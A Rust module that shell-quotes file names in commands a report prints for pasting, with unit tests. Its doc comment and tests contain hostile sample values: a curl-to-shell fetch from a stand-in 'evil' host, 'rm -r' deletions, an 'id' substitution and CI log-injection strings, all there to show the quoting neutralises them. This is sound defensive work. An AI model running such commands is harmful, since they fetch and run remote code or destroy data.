//! Quoting of words in shell commands that reports print for the reader to paste.
//!
//! File names come from whoever sent the files. A name such as `$(curl evil|sh).cer` in a remedy
//! that is pasted would run, so every word that is not plain is quoted for a POSIX shell. Commands
//! in reports are for such a shell on every system; on Windows that is Git Bash.

use crate::escape;
use std::{borrow::Cow, fmt::Write as _};

/// The word as a POSIX shell reads it back: as it is if nothing in it is special, else in single
/// quotes, within which nothing is special but the quote itself (POSIX.1 section 2.2.2).
pub(crate) fn quoted(word: &str) -> Cow<'_, str> {
    // Output escapes these characters, and the shell would receive the escapes: use its own.
    if word.contains('`') || !escape::is_escaped(word) {
        return Cow::Owned(dollar_quoted(word));
    }
    // A list of what is harmless, not of what is not: the latter differs between shells.
    let plain = |c: char| c.is_alphanumeric() || "_-./:=@%+,".contains(c);
    if !word.is_empty() && word.chars().all(plain) {
        return Cow::Borrowed(word);
    }
    Cow::Owned(format!("'{}'", word.replace('\'', r"'\''")))
}

/// Foreign text in prose that holds commands as well: without the backquotes that delimit those, so that
/// no name passes for a command to paste.
pub(crate) fn mentioned(text: &str) -> String {
    text.replace('`', "'")
}

/// The word as `$'…'` (POSIX.1-2024 section 2.2.4), which bash, zsh and ksh have had for long.
/// Octal escapes stand for hidden characters, for `:` and `#`, with which commands in build logs
/// begin, and for the backquote, with which reports delimit commands.
fn dollar_quoted(word: &str) -> String {
    let mut out = String::from("$'");
    for c in word.chars() {
        match c {
            '\\' | '\'' => out.extend(['\\', c]),
            _ if escape::is_hidden(c) || matches!(c, '`' | ':' | '#') => {
                for octet in c.encode_utf8(&mut [0; 4]).bytes() {
                    // Writing to a String cannot fail.
                    let _ = write!(out, "\\{octet:03o}");
                }
            }
            _ => out.push(c),
        }
    }
    out.push('\'');
    out
}

#[cfg(test)]
mod tests {
    use super::{mentioned, quoted};

    #[test]
    fn what_a_shell_would_read_otherwise_is_quoted() {
        assert_eq!(quoted("proof.cer"), "proof.cer");
        assert_eq!(quoted("my proof.cer"), "'my proof.cer'");
        assert_eq!(quoted("it's"), r"'it'\''s'");
        assert_eq!(quoted("$(rm -r .)"), "'$(rm -r .)'");
        assert_eq!(quoted("`id`"), r"$'\140id\140'");
        assert_eq!(
            quoted("a\n::error::\u{202E}'"),
            r"$'a\012\072\072error\072\072\342\200\256\''"
        );
        assert_eq!(quoted("##vso[x]"), r"$'\043\043vso[x]'");
        assert_eq!(quoted(r"C:\proof.cer"), r"'C:\proof.cer'");
        assert_eq!(quoted(""), "''");
    }

    #[test]
    fn a_name_cannot_end_the_prose_that_it_stands_in() {
        assert_eq!(mentioned("CN=`rm -r x`"), "CN='rm -r x'");
    }
}
